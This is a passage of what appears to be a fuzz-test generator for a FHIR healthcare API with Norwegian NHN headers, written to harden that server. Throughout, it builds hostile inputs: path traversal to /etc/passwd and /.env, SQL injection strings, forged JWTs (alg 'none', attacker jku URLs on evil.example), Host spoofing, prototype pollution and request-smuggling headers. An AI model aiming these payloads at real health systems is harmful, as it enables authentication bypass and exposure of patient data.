        const method = rng.pick(['POST', 'PUT', 'PATCH', 'DELETE', 'GET', 'HEAD', 'bogus', '', 'post']);
        return {
          fullUrl: rng.pick([`urn:uuid:${crypto.randomUUID()}`, 'urn:uuid:dup', `${w.baseUrl}/${type}/${resource.id}`, 'not a url', '', undefined]),
          resource,
          request: {
            method,
            url: rng.pick([type, `${type}/${resource.id}`, `${type}?identifier=x`, `${type}/${idOf(rng, w, type)}`, '$export', 'metadata', '../../etc', '', `${type}/${idOf(rng, w, type)}/$publish`, 'Patient/$plan-status', `http://evil.example/${type}`, `${type}?${q(searchPairs(rng, w))}`, `${w.baseUrl}/${type}`]),
            ...(rng.chance(0.2) ? { ifMatch: rng.pick(['W/"1"', '*', 'garbage', 'W/"99999"']) } : {}),
            ...(rng.chance(0.2) ? { ifNoneExist: rng.pick(['identifier=x', `identifier=${FNR}|${rng.pick(w.allNins)}`, '??', '_id=1&_id=2', rng.pick(INJECTION)]) } : {}),
            ...(rng.chance(0.1) ? { ifNoneMatch: '*' } : {}),
          },
        };
      }],
      [1, () => ({ request: { method: 'GET', url: `${rng.pick(TYPES)}?${q(searchPairs(rng, w))}` } })],
      [1, () => ({ resource: { resourceType: 'Bundle', type: 'transaction', entry: [{ request: { method: 'GET', url: 'Goal' } }] }, request: { method: 'POST', url: 'Bundle' } })],
      [1, () => rng.pick<unknown>([null, 'x', 42, [], {}, { request: null }, { request: { method: 'POST' } }, { resource: null, request: { method: 'POST', url: 'Goal' } }])],
      [1, () => ({ fullUrl: 'urn:uuid:a', resource: { resourceType: 'Goal', subject: { reference: 'urn:uuid:b' } }, request: { method: 'POST', url: 'Goal' } })],
      [1, () => ({ request: { method: 'PATCH', url: `Goal/${idOf(rng, w, 'Goal')}` }, resource: { resourceType: 'Binary', contentType: 'application/json-patch+json', data: Buffer.from(JSON.stringify(jsonPatchOps(rng, w))).toString('base64') } })],
      [1, () => ({ request: { method: 'POST', url: `CarePlan/${t.planId}/$publish` }, resource: { resourceType: 'Parameters' } })],
    ])();
  const small = () => ({ fullUrl: `urn:uuid:${crypto.randomUUID()}`, resource: { resourceType: 'Goal', lifecycleStatus: 'proposed', description: { text: 'x' }, subject: { reference: `Patient/${t.patientId}` } }, request: { method: 'POST', url: 'Goal' } });
  const entries = rng.chance(0.92) ? Array.from({ length: 1 + rng.int(6) }, entry) : Array.from({ length: rng.pick([50, 200, 5001]) }, rng.chance(0.5) ? small : () => ({ request: { method: 'GET', url: `Goal?_count=1&status=${rng.int(1000)}` } }));
  return rng.weighted<() => unknown>([
    [8, () => ({ resourceType: 'Bundle', type: rng.pick(['transaction', 'batch']), entry: entries })],
    [2, () => ({ resourceType: 'Bundle', type: rng.pick(['collection', 'searchset', 'document', 'transaction-response', '', 'TRANSACTION', null, 42]), entry: entries })],
    [1, () => ({ resourceType: 'Bundle', type: 'transaction', entry: rng.pick<unknown>([null, {}, 'x', 42, [[]]]) })],
    [1, () => ({ resourceType: rng.pick(['Goal', 'Parameters', 'bundle', '']), type: 'batch', entry: entries })],
    [1, () => rng.pick<unknown>([[], 'bundle', 42, null, { type: 'batch' }])],
  ])();
}

function operationCase(rng: Rng, w: World, t: Target): Pick<Case, 'method' | 'target' | 'body'> & { nin?: string } {
  const params = (parts: unknown[]) => JSON.stringify({ resourceType: 'Parameters', parameter: parts });
  const version = () => rng.pick<unknown>([1, 2, 0, -1, 999_999, 1.5, 'x', null, 2 ** 53, '1e400']);
  return rng.weighted<() => Pick<Case, 'method' | 'target' | 'body'> & { nin?: string }>([
    [3, () => ({ method: 'POST', target: `/fhir/${rng.pick(TYPES)}/$validate${rng.chance(0.3) ? `?mode=${rng.pick(['create', 'update', 'delete', 'bogus'])}&profile=${enc(rng.pick(['http://evil.example/x', '', rng.pick(INJECTION)]))}` : ''}`, body: rng.chance(0.5) ? resourceBody(rng, w).text : params([{ name: 'resource', resource: mutate(rng.pick(w.materials), rng, w) }, { name: 'mode', valueCode: rng.pick(['create', 'x']) }]) })],
    [3, () => ({ method: 'POST', target: `/fhir/PlanDefinition/${rng.chance(0.8) ? rng.pick(w.templates) : idOf(rng, w, 'PlanDefinition')}/$apply`, body: params(rng.pick<unknown[]>([[], [{ name: 'subject', valueString: `Patient/${t.patientId}` }], [{ name: 'subject', valueString: `Patient/${w.sentinel.patientId}` }], [{ name: 'subject', valueString: rng.pick(w.allNins) }], [{ name: 'subject', valueReference: { reference: `Patient/${t.patientId}` } }], [{ name: 'subject', valueString: hostileString(rng, w) }], [{ name: 'subject', valueString: `Patient/${t.patientId}` }, { name: 'subject', valueString: `Patient/${t.patientId}` }], [{ name: 'subject' }]])) })],
    [1, () => ({ method: rng.pick(['GET', 'POST']), target: `/fhir/PlanDefinition/$apply?${q([['subject', rng.pick([`Patient/${t.patientId}`, 'x'])], ['planDefinition', rng.pick(['x', 'http://evil.example/pd', ''])]])}` })],
    [3, () => ({ method: 'POST', target: `/fhir/CarePlan/${rng.chance(0.7) ? t.planId : idOf(rng, w, 'CarePlan')}/$publish`, body: rng.pick([params([]), '', '{}', params([{ name: 'x', valueString: 'y' }]), resourceBody(rng, w).text]) })],
    [3, () => ({ method: 'POST', target: `/fhir/CarePlan/${rng.chance(0.7) ? t.planId : idOf(rng, w, 'CarePlan')}/$approval`, body: params([{ name: 'action', valueCode: rng.pick(['request', 'give', 'reject', 'bogus', '', 'GIVE']) }, ...(rng.chance(0.6) ? [{ name: 'version', valueInteger: version() }] : []), ...(rng.chance(0.4) ? [{ name: 'comment', valueString: hostileString(rng, w) }] : [])]) })],
    [3, () => ({ method: 'GET', target: `/fhir/CarePlan/${rng.chance(0.7) ? t.planId : idOf(rng, w, 'CarePlan')}/$diff?${q([['from', String(version())], ['to', String(version())], ...(rng.chance(0.2) ? ([['from', '2']] as Array<[string, string]>) : [])])}` })],
    [1, () => ({ method: 'POST', target: `/fhir/CarePlan/${t.planId}/$diff`, body: params([{ name: 'from', valueInteger: version() }, { name: 'to', valueString: String(version()) }]) })],
    [2, () => ({ method: rng.pick(['GET', 'POST']), target: `/fhir/CarePlan/${rng.chance(0.7) ? t.planId : idOf(rng, w, 'CarePlan')}/$versions${rng.chance(0.3) ? `?${q(searchPairs(rng, w))}` : ''}` })],
    [3, () => ({ method: 'POST', target: '/fhir/Patient/$plan-status', nin: rng.pick([t.nin, rng.pick(w.allNins), '']), body: rng.pick([params([{ name: 'nin', valueString: rng.pick([t.nin, rng.pick(w.allNins), '123', hostileString(rng, w)]) }]), params([{ name: 'nin', valueInteger: 1 }]), params([]), '[]', resourceBody(rng, w).text, params([{ name: 'nin', valueString: t.nin }, { name: 'nin', valueString: rng.pick(w.allNins) }])]) })],
    [2, () => ({ method: rng.pick(['GET', 'POST']), target: `/fhir/CarePlan/${rng.chance(0.7) ? t.planId : idOf(rng, w, 'CarePlan')}/$nhn-plan${rng.chance(0.3) ? `?${q(searchPairs(rng, w))}` : ''}` })],
    [3, () => ({ method: 'POST', target: '/fhir/CarePlan/_search', nin: rng.pick([t.nin, t.nin, rng.pick(w.allNins)]), body: q([[rng.pick(['subject:Patient.identifier', 'patient:Patient.identifier', 'subject.identifier', 'subject:Patient.identifier:exact', 'identifier']), rng.pick([`${FNR}|${t.nin}`, `${FNR}|${rng.pick(w.allNins)}`, `${FNR}|${w.sentinel.patientId}`, t.nin, `|${t.nin}`, `${FNR}|`, `${FNR}|${t.nin},${FNR}|${rng.pick(w.allNins)}`, hostileString(rng, w)])], ...searchPairs(rng, w)]) })],
    [2, () => ({ method: 'GET', target: `/fhir/${rng.pick(['$export', 'Patient/$export', `Patient/${t.patientId}/$export`, `Patient/${w.sentinel.patientId}/$export`, 'Group/1/$export'])}?${q([...(rng.chance(0.7) ? ([['_type', rng.pick(['Goal', 'Goal,CarePlan', 'Bogus', '', '*', 'AuditEvent'])]] as Array<[string, string]>) : []), ...(rng.chance(0.5) ? ([['_since', rng.pick(DATES)]] as Array<[string, string]>) : []), ...(rng.chance(0.3) ? ([['_outputFormat', rng.pick(['application/fhir+ndjson', 'ndjson', 'text/csv', ''])]] as Array<[string, string]>) : []), ...(rng.chance(0.2) ? ([['_typeFilter', rng.pick(['Goal?status=active', 'Goal?_has:x', 'x'])]] as Array<[string, string]>) : [])])}` })],
    [2, () => ({ method: rng.pick(['GET', 'DELETE']), target: `/fhir/${rng.pick(['$export-status', '$export-file'])}?${q([['job', rng.pick([crypto.randomUUID(), '../../etc/passwd', '', 'x', "1' OR '1'='1", '%00'])], ...(rng.chance(0.5) ? ([['file', rng.pick(['0', '-1', '../../x', 'Goal.ndjson', '999'])]] as Array<[string, string]>) : [])])}` })],
    [1, () => ({ method: rng.pick(['GET', 'POST']), target: `/fhir/Subscription/${idOf(rng, w, 'Subscription')}/$status` })],
    [1, () => ({ method: rng.pick(['GET', 'POST', 'DELETE']), target: `/fhir/${rng.pick(['', 'Goal/', `Goal/${idOf(rng, w, 'Goal')}/`])}$${rng.pick(['everything', 'meta', 'bogus', '', 'export', 'apply', 'validate', '$', 'plan-status', enc(rng.pick(INJECTION))])}` })],
  ])();
}

function dpopMode(rng: Rng): DpopMode {
  return rng.pick<DpopMode>(['valid', 'valid', 'wrong-url', 'wrong-method', 'replay', 'no-ath', 'old', 'future', 'alg-none', 'other-key', 'garbage', 'private-jwk', 'none']);
}

/** Broken, forged and hostile credentials and NHN headers, on otherwise ordinary requests. */
function securityHeaders(rng: Rng, w: World, t: Target): { headers: Record<string, string>; dpop?: DpopMode } {
  const base = clinicianHeaders(w.tokens.clinician, t.nin);
  const [header, payload, signature] = w.tokens.clinician.split('.') as [string, string, string];
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>;
  const forged = (c: Record<string, unknown>, h: Record<string, unknown> = JSON.parse(Buffer.from(header, 'base64url').toString()) as Record<string, unknown>) =>
    `${Buffer.from(JSON.stringify(h)).toString('base64url')}.${Buffer.from(JSON.stringify(c)).toString('base64url')}.${rng.chance(0.5) ? signature : ''}`;
  return rng.weighted<() => { headers: Record<string, string>; dpop?: DpopMode }>([
    [2, () => ({ headers: { ...base, authorization: rng.pick(['', 'Bearer', 'Bearer ', 'Bearer a.b.c', 'Basic dXNlcjpwdw==', 'bearer ' + w.tokens.clinician, `Bearer ${w.tokens.clinician} extra`, `Bearer  ${w.tokens.clinician}`, 'Bearer ' + 'A'.repeat(12_000), 'Negotiate x', 'DPoP', `Bearer ${w.tokens.clinician.slice(0, -4)}AAAA`, `Bearer ${w.tokens.clinician.split('.').slice(0, 2).join('.')}`, 'Bearer ..', 'Bearer e30.e30.', `Bearer ${header}.${payload}.${signature}.x`]) } })],
    [3, () => ({ headers: { ...base, authorization: `Bearer ${forged(rng.pick([{ ...claims, exp: 4_102_444_800 }, { ...claims, scope: 'nhn:samplan/read nhn:samplan/write nhn:samplan/export' }, { ...claims, iss: 'http://evil.example' }, { ...claims, aud: 'other' }, { ...claims, exp: 1 }, { ...claims, nbf: 4_102_444_800 }, { ...claims, sub: '__proto__' }, { ...claims, cnf: { jkt: 'x' } }, { ...claims, scope: 42 }, { ...claims, helseid: null }, {}, { __proto__: { admin: true } }]), rng.chance(0.5) ? undefined : rng.pick([{ alg: 'none', typ: 'JWT' }, { alg: 'HS256', typ: 'at+jwt' }, { alg: 'RS256', kid: '../../etc/passwd' }, { alg: 'ES256', jku: 'http://evil.example/jwks' }, { alg: 'RS256', jwk: { kty: 'RSA', n: 'AQAB', e: 'AQAB' } }, { alg: 'RS256', crit: ['x'] }]))}` } })],
    [1, () => ({ headers: { ...base, authorization: `Bearer ${hostileString(rng, w).replace(/[^\x20-\x7e]/g, '?').slice(0, 8000)}` } })],
    [3, () => ({ headers: { ...base, 'nhn-user-role': rng.pick(['', 'LE', '%7B', encodeURIComponent('{"system":1,"code":[]}'), encodeURIComponent(JSON.stringify({ system: ROLE_SYSTEM, code: 'XX' })), encodeURIComponent(JSON.stringify({ system: 'urn:x', code: 'LE' })), encodeURIComponent(JSON.stringify([{ system: ROLE_SYSTEM, code: 'LE' }])), encodeURIComponent(JSON.stringify({ __proto__: { code: 'LE' } })), encodeURIComponent('{"system":"' + ROLE_SYSTEM + '","code":"LE","code":"SP"}'), '%ZZ', encodeURIComponent(JSON.stringify({ system: ROLE_SYSTEM, code: 'LE', x: 'A'.repeat(8000) })), encodeURIComponent('null'), encodeURIComponent(JSON.stringify(deepNest(500, rng)))]) } })],
    [3, () => ({ headers: { ...base, 'nhn-access-basis': rng.pick(['', 'samtykke', 'NØDRETT'.normalize('NFD'), 'NODRETT', 'NØDRETT', 'BOGUS', 'SAMTYKKE,SAMTYKKE', 'A'.repeat(5000), 'DROP TABLE']).replace(/[^\x00-\xff]/g, '?'), ...(rng.chance(0.5) ? { 'nhn-access-reason': rng.pick(['', '%ZZ', encodeURIComponent('x'.repeat(10_000)), enc(rng.pick(INJECTION)), encodeURIComponent(t.nin)]) } : {}) } })],
    [3, () => ({ headers: { ...base, 'nhn-patient-nin': rng.pick(['', '123', '12345678901', ` ${t.nin}`, `${t.nin},${rng.pick(w.allNins)}`, `${t.nin}${t.nin}`, rng.pick(w.allNins), `${t.nin.slice(0, 10)}${(Number(t.nin[10]) + 1) % 10}`, 'A'.repeat(11), '-1', '1e10', rng.pick(INJECTION), '٠١٢٣٤٥٦٧٨٩٠'.replace(/[^\x00-\xff]/g, '?')]) } })],
    [2, () => ({ headers: { ...base, 'nhn-source-system': rng.pick(['', 'A'.repeat(10_000), rng.pick(INJECTION), '\t'.repeat(5)]), 'nhn-event-id': rng.pick(['', 'x'.repeat(500), '../../x', rng.pick(INJECTION)]), 'x-request-id': rng.pick(['\t', 'ok-id', 'A'.repeat(200)]) } })],
    [2, () => ({ headers: { ...base, 'x-provenance': rng.pick(['{', '[]', 'null', '{"resourceType":"Provenance","reason":[{"text":' + JSON.stringify('x'.repeat(2000)) + '}]}', '{"resourceType":"Provenance","reason":"x"}', '{"resourceType":"Provenance","reason":[null,{"coding":null},{"coding":[null]}]}', '{"resourceType":"Provenance","reason":[{"text":42}]}', JSON.stringify({ resourceType: 'Provenance', __proto__: { reason: [{ text: 'x' }] } }), JSON.stringify(deepNest(3000, rng))]) } })],
    [2, () => ({ headers: { ...base, authorization: `DPoP ${w.dpop.token}` }, dpop: dpopMode(rng) })],
    [1, () => ({ headers: { ...base, authorization: `Bearer ${w.dpop.token}` }, dpop: rng.pick<DpopMode>(['none', 'valid']) })],
    [1, () => ({ headers: {}, dpop: rng.pick<DpopMode>(['none', 'valid', 'garbage']) })],
    [1, () => ({ headers: { authorization: `Bearer ${w.tokens.citizen}`, 'nhn-patient-nin': rng.pick(w.allNins), 'nhn-user-role': base['nhn-user-role'] as string } })],
    [1, () => ({ headers: { authorization: `Bearer ${w.tokens.machine}`, ...(rng.chance(0.5) ? { 'nhn-patient-nin': t.nin } : {}) } })],
  ])();
}

function contentType(rng: Rng, fallback: string): string {
  return rng.chance(0.92)
    ? fallback
    : rng.pick(['text/plain', 'application/xml', 'application/fhir+xml', 'multipart/form-data; boundary=x', 'application/fhir+json; fhirVersion=3.0', 'application/fhir+json; fhirVersion=4.0', 'application/json; charset=latin1', 'application/json; charset=utf-16', 'application/x-www-form-urlencoded', 'application/json-patch+json', 'application/fhir+json;;;', '*/*', '', 'application/jsonx', 'APPLICATION/FHIR+JSON']);
}

function generate(index: number, w: World): Case {
  const rng = new Rng(caseSeed(SEED, index));
  const t = targetOf(rng, w);
  const make = (kind: string, method: string, target: string, body?: string | Buffer, nin: string | undefined = t.nin, type = 'application/fhir+json'): Case => ({
    index,
    kind,
    method,
    target,
    headers: { ...authFor(rng, w, nin), ...(body !== undefined ? { 'content-type': contentType(rng, type) } : {}) },
    ...(body !== undefined ? { body } : {}),
  });
  return rng.weighted<() => Case>([
    // Broken JSON on every write endpoint.
    [10, () => {
      const { text, type } = resourceBody(rng, w);
      const broken = rng.weighted<() => string | Buffer>([
        [3, () => text.slice(0, rng.int(text.length))],
        [2, () => text.replace(/,/, ',,')],
        [1, () => `${text.slice(0, -1)},}`],
        [1, () => `// comment\n${text}`],
        [1, () => `\ufeff${text}`],
        [1, () => `${text}${text}`],
        [1, () => `{"resourceType":"${type}","id":"x", "a": ${rng.pick(['NaN', 'Infinity', 'undefined', "'single'", '0x1F', '01', '.5', '1.', '-', '"\\x41"', '"\\u12"', '"\t"', '"\\ud800"', `"${t.nin}"x`])}}`],
        [1, () => Buffer.concat([Buffer.from(text.slice(0, 40)), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xed, 0xa0, 0x80]), Buffer.from(text.slice(40))])],
        [1, () => rng.pick(['', ' ', '\n\n', 'null', 'true', '42', '"string"', '[]', '[{}]', '{}', '{"resourceType":null}', '{"resourceType":{}}', '{"__proto__":{"resourceType":"Patient"}}', '{"constructor":{"prototype":{"x":1}}}'])],
        [1, () => `{"resourceType":"Goal","note":[{"text":"${'x'.repeat(200)}${t.nin}${'y'.repeat(200)}"}]${'x'.repeat(rng.int(3))}`],
        [1, () => `${'['.repeat(rng.pick([65, 1000, 100_000]))}${']'.repeat(rng.chance(0.5) ? 0 : 10)}`],
        [1, () => `{"resourceType":"Goal",${Array.from({ length: rng.pick([1000, 30_000]) }, (_, i) => `"k${i}":${i}`).join(',')}}`],
        [1, () => `{"resourceType":"Goal","note":[{"text":"${'A'.repeat(rng.pick([500_000, 1_100_000]))}"}]}`],
      ])();
      const [method, target] = rng.pick<[string, string]>([
        ['POST', `/fhir/${type}`],
        ['PUT', `/fhir/${type}/${idOf(rng, w, type)}`],
        ['PUT', `/fhir/${type}?${q([['identifier', 'x']])}`],
        ['PATCH', `/fhir/${type}/${idOf(rng, w, type)}`],
        ['POST', '/fhir'],
        ['POST', `/fhir/${type}/$validate`],
        ['POST', `/fhir/${type}/_search`],
        ['POST', `/fhir/CarePlan/${t.planId}/$publish`],
        ['POST', '/fhir/Patient/$plan-status'],
        ['POST', '/status'],
      ]);
      return make('broken-json', method, target, broken, t.nin, method === 'PATCH' && rng.chance(0.5) ? 'application/json-patch+json' : 'application/fhir+json');
    }],
    // Mutated resources: create, update, conditional create/update.
    [18, () => {
      const { text, type, resource } = resourceBody(rng, w);
      const id = typeof resource.id === 'string' ? resource.id : idOf(rng, w, type);
      const c = rng.weighted<() => Case>([
        [4, () => make('mutated-create', 'POST', `/fhir/${type}`, text)],
        [4, () => make('mutated-update', 'PUT', `/fhir/${type}/${rng.chance(0.8) ? enc(String(id)) : idOf(rng, w, type)}`, text)],
        [2, () => make('conditional-update', 'PUT', `/fhir/${type}?${q(searchPairs(rng, w).slice(0, 2))}`, text)],
        [2, () => {
          const k = make('conditional-create', 'POST', `/fhir/${type}`, text);
          k.headers['if-none-exist'] = rng.pick([q(searchPairs(rng, w).slice(0, 2)), 'identifier=', '??', '_id=1&_id=2', `identifier=${FNR}|${rng.pick(w.allNins)}`, rng.pick(INJECTION), '&&&', 'x'.repeat(8000)]);
          return k;
        }],
      ])();
      if (rng.chance(0.25)) c.headers['if-match'] = rng.pick(['W/"1"', '"1"', 'W/"abc"', '*', 'W/"99999999999999999999"', 'W/""', 'W/"1", W/"2"', 'W/"-1"', 'garbage', 'W/"1e3"', 'W/"0x1"']);
      if (rng.chance(0.1)) c.headers['if-none-match'] = rng.pick(['*', 'W/"1"', 'garbage', '']);
      if (rng.chance(0.15)) c.headers.prefer = rng.pick(['return=representation', 'return=OperationOutcome', 'return=minimal', 'return=bogus', 'handling=strict', 'handling=lenient, return=representation', 'respond-async', ';;;,,,===', 'return', '=', 'x'.repeat(5000)]);
      return c;
    }],
    // Searches: parameters, modifiers, chains, _has, includes, sorting, paging.
    [20, () => {
      const pairs = searchPairs(rng, w);
      const type = rng.chance(0.9) ? rng.pick(TYPES) : rng.pick(ODD_TYPES);
      return rng.weighted<() => Case>([
        [6, () => make('search', rng.pick(['GET', 'GET', 'HEAD']), `/fhir/${type}?${q(pairs)}`)],
        [2, () => make('search-post', 'POST', `/fhir/${type}/_search${rng.chance(0.3) ? `?${q(searchPairs(rng, w))}` : ''}`, q(pairs), t.nin, 'application/x-www-form-urlencoded')],
        [1, () => make('search-system', 'GET', `/fhir?${q([['_type', rng.pick(['Goal,CarePlan', 'Bogus', '', '*', 'AuditEvent'])], ...pairs])}`)],
        [1, () => make('search-compartment', 'GET', `/fhir/Patient/${rng.chance(0.7) ? t.patientId : idOf(rng, w, 'Patient')}/${rng.pick(TYPES)}?${q(pairs)}`)],
        [1, () => make('history', 'GET', rng.pick([`/fhir/_history?${q(pairs)}`, `/fhir/${type}/_history?${q(pairs)}`, `/fhir/${type}/${idOf(rng, w, type)}/_history?${q(pairs)}`, `/fhir/${type}/${idOf(rng, w, type)}/_history/${rng.pick(['1', '0', '-1', 'x', '99999999999999999999', '1.5', '%00'])}`]))],
        [2, () => {
          const link = rng.pick(w.pageLinks);
          const mutated = rng.weighted<() => string>([
            [2, () => link.replace(/(_page|_cursor)=([^&]+)/, (_m, k: string, v: string) => `${k}=${v.slice(0, rng.int(v.length))}`)],
            [2, () => link.replace(/(_page|_cursor)=([^&]+)/, (_m, k: string, v: string) => { const i = rng.int(v.length); return `${k}=${v.slice(0, i)}${v[i] === 'A' ? 'B' : 'A'}${v.slice(i + 1)}`; })],
            [1, () => link.replace(/(_page|_cursor)=([^&]+)/, (_m, k: string) => `${k}=${enc(rng.pick(['', 'x', 'A'.repeat(5000), Buffer.from('{"p":[["_id","x"]],"t":0}').toString('base64url'), rng.pick(INJECTION)]))}`)],
            [1, () => `${link}&${q(searchPairs(rng, w))}`],
            [1, () => link.replace(/^[A-Za-z]+/, rng.pick(TYPES))],
            [1, () => link],
          ])();
          return make('paging', 'GET', `/fhir/${mutated}`);
        }],
        [1, () => make('nin-in-url', 'GET', `/fhir/Patient?${q([['identifier', `${FNR}|${rng.pick(w.knownNins)}`]])}`)],
      ])();
    }],
    // PATCH: JSON Patch and FHIRPath Patch, by id and conditional.
    [10, () => {
      const type = rng.pick(['Goal', 'CarePlan', 'Condition', 'Patient', 'Observation', 'CareTeam', 'Consent']);
      const target = rng.chance(0.85) ? `/fhir/${type}/${idOf(rng, w, type)}` : `/fhir/${type}?${q(searchPairs(rng, w).slice(0, 2))}`;
      const c = rng.chance(0.55)
        ? make('json-patch', 'PATCH', target, finishJson(JSON.stringify(jsonPatchOps(rng, w))), t.nin, 'application/json-patch+json')
        : make('fhirpath-patch', 'PATCH', target, finishJson(JSON.stringify(fhirPathPatch(rng, w))));
      if (rng.chance(0.3)) c.headers['if-match'] = rng.pick(['W/"1"', 'W/"2"', '*', 'garbage', 'W/"99999"']);
      return c;
    }],
    // Operations.
    [14, () => {
      const op = operationCase(rng, w, t);
      const c = make(`op ${/\$[\w-]+|_search/.exec(op.target)?.[0] ?? '?'}`, op.method, op.target, op.body, op.nin ?? t.nin, op.target.includes('_search') ? 'application/x-www-form-urlencoded' : 'application/fhir+json');
      if (rng.chance(0.3)) c.headers.prefer = rng.pick(['respond-async', 'return=minimal', 'return=OperationOutcome', 'respond-async, return=bogus']);
      return c;
    }],
    // Transaction and batch Bundles.
    [8, () => make('bundle', 'POST', '/fhir', finishJson(JSON.stringify(bundleBody(rng, w, t))))],
    // Reads, deletes and conditional deletes with odd conditional headers.
    [6, () => {
      const type = rng.chance(0.9) ? rng.pick(TYPES) : rng.pick(ODD_TYPES);
      const c = rng.weighted<() => Case>([
        [3, () => make('read', rng.pick(['GET', 'HEAD']), `/fhir/${type}/${idOf(rng, w, type)}${rng.chance(0.3) ? `?${q(searchPairs(rng, w).slice(0, 2))}` : ''}`)],
        [2, () => make('delete', 'DELETE', `/fhir/${type}/${idOf(rng, w, type)}`)],
        [2, () => make('conditional-delete', 'DELETE', `/fhir/${type}?${q(searchPairs(rng, w).slice(0, 3))}`)],
        [1, () => make('conditional-delete', 'DELETE', `/fhir/${type}`)],
        [1, () => make('method', rng.pick(['OPTIONS', 'PROPFIND', 'PUT', 'PATCH', 'DELETE', 'POST']), rng.pick(['/fhir', '/fhir/metadata', '/fhir/_history', `/fhir/${type}/_history`, '/fhir/AuditEvent', `/fhir/AuditEvent/${crypto.randomUUID()}`, '/fhir/_search']))],
      ])();
      if (rng.chance(0.3)) c.headers['if-none-match'] = rng.pick(['W/"1"', '*', 'garbage', '"', 'W/']);
      if (rng.chance(0.3)) c.headers['if-modified-since'] = rng.pick(['garbage', 'Thu, 01 Jan 1970 00:00:00 GMT', 'Fri, 31 Dec 9999 23:59:59 GMT', '0', '2024-13-45', '']);
      if (rng.chance(0.1)) c.headers.accept = rng.pick(['application/xml', 'text/html', 'application/fhir+xml', '*/*;q=0', 'application/json;q=0', 'garbage', '']);
      return c;
    }],
    // The security layer: tokens, DPoP, NHN headers, on ordinary requests.
    [14, () => {
      const { headers, dpop } = securityHeaders(rng, w, t);
      const [method, target, body] = rng.pick<[string, string, string?]>([
        ['GET', `/fhir/CarePlan/${t.planId}`],
        ['GET', `/fhir/Goal?patient=Patient/${t.patientId}`],
        ['GET', '/fhir/Organization'],
        ['POST', '/fhir/Patient/$plan-status', JSON.stringify({ resourceType: 'Parameters', parameter: [{ name: 'nin', valueString: t.nin }] })],
        ['POST', '/fhir/Goal', JSON.stringify({ resourceType: 'Goal', lifecycleStatus: 'proposed', description: { text: 'x' }, subject: { reference: `Patient/${t.patientId}` } })],
        ['POST', '/status', JSON.stringify({ nin: t.nin })],
        ['GET', `/fhir/AuditEvent?_count=5`],
        ['GET', `/fhir/CarePlan/${t.planId}/$versions`],
      ]);
      return {
        index,
        kind: 'security',
        method,
        target,
        headers: { ...headers, ...(body !== undefined ? { 'content-type': 'application/fhir+json' } : {}) },
        ...(body !== undefined ? { body } : {}),
        ...(dpop ? { dpop } : {}),
      };
    }],
    // Paths, encodings and the routes around the FHIR API.
    [4, () => make('path', rng.pick(['GET', 'POST', 'DELETE']), rng.pick([
      '/fhir/../../etc/passwd', '/fhir/%2e%2e/%2e%2e/etc/passwd', '/fhir/Patient/%ZZ', '/fhir/Patient/%00', '/fhir//Patient', '/fhir/Patient//x', '/fhir/Patient/x/y/z/w/v',
      `/fhir/${'a/'.repeat(200)}`, `/fhir/Patient/${'%25'.repeat(300)}`, '/fhir/%F0%9F%A6%84', '/fhir/%C3%28', '/fhir/Patient?%ZZ=1', '/fhir/Patient?a=%', '/fhir/Patient?&&&==&', '/fhir/Patient?' + 'a=1&'.repeat(2000),
      '/FHIR/Patient', '/fhir;x=y/Patient', '/fhir/Patient;jsessionid=x', '/fhir/Patient/.%2e/metadata', `/fhir/Patient/${t.patientId}/NotAType`, `/fhir/Patient/${t.patientId}/Patient`, '/fhir/metadata?_format=xml', '/fhir/metadata?_format=%00',
      '/status', '/readyz?x=%ZZ', '/healthz/x', '/idp/.well-known/openid-configuration/x', '/idp/token', '/idp/auth?response_type=%00', '/nope', '/', '/.env', '/fhir/Patient?_format=json&_pretty=true&' + q([['name', '\ud800']]),
    ]), rng.chance(0.3) ? rng.pick(['{}', '[]', 'x', JSON.stringify({ nin: rng.pick(w.allNins) }), JSON.stringify({ nin: ['x'] }), 'null']) : undefined)],
  ])();
}

// ---------------------------------------------------------------------------------------------
// Raw-socket cases: what fetch cannot send

function rawCases(w: World, start: number, count: number): Case[] {
  const host = `127.0.0.1:${new URL(w.base).port}`;
  const auth = clinicianHeaders(w.tokens.clinician, w.targets[0]?.nin);
  const authLines = Object.entries(auth).map(([k, v]) => `${k}: ${v}\r\n`).join('');
  const goal = JSON.stringify({ resourceType: 'Goal', lifecycleStatus: 'proposed', description: { text: 'raw' }, subject: { reference: `Patient/${w.targets[0]?.patientId}` } });
  const req = (head: string, body: Buffer | string = '') => Buffer.concat([Buffer.from(head, 'latin1'), Buffer.isBuffer(body) ? body : Buffer.from(body)]);
  const post = (p: string, body: Buffer | string, extra = '', length: number | string = Buffer.byteLength(body)) =>
    req(`POST ${p} HTTP/1.1\r\nHost: ${host}\r\n${authLines}content-type: application/fhir+json\r\ncontent-length: ${length}\r\nconnection: close\r\n${extra}\r\n`, body);
  const templates: Array<{ kind: string; bytes: (rng: Rng) => Buffer; mayStall?: boolean }> = [
    { kind: 'raw request line', bytes: (rng) => req(`${rng.pick(['GET', 'G\0ET', 'GET GET', 'FOO', 'get', '', ' ', 'GET\t'])} ${rng.pick(['/fhir/metadata', '', '*', 'http://evil.example/fhir/metadata', '/fhir/metadata#x', '/fhir/meta data', '/fhir/\x01', `/fhir/${'x'.repeat(20_000)}`])} ${rng.pick(['HTTP/1.1', 'HTTP/1.0', 'HTTP/2.0', 'HTTP/9.9', 'HTTP/1.1 extra', '', 'HTTPS/1.1'])}\r\nHost: ${host}\r\nconnection: close\r\n\r\n`) },
    { kind: 'raw header', bytes: (rng) => req(`GET /fhir/CarePlan/${w.targets[0]?.planId} HTTP/1.1\r\nHost: ${host}\r\n${authLines}${rng.pick(['x-bad header: 1\r\n', 'no-colon\r\n', ': empty-name\r\n', 'x-a: \x00\x01\x02\r\n', ' folded: continuation\r\n', 'x-fold: a\r\n  b\r\n', 'nhn-patient-nin: \xff\xfe\r\n', 'nhn-user-role: \xc3\x28\r\n', 'authorization: Bearer \x80\x81\r\n', 'x-long: ' + 'a'.repeat(20_000) + '\r\n', 'nhn-access-basis: SAMTYKKE\r\nnhn-access-basis: NODRETT\r\n', 'authorization: Bearer x\r\n', 'host: evil.example\r\n', 'transfer-encoding: chunked\r\n'])}connection: close\r\n\r\n`) },
    { kind: 'raw header flood', bytes: (rng) => req(`GET /fhir/metadata HTTP/1.1\r\nHost: ${host}\r\n${Array.from({ length: rng.pick([200, 2000, 20_000]) }, (_, i) => `x-h${i}: ${i}\r\n`).join('')}connection: close\r\n\r\n`) },
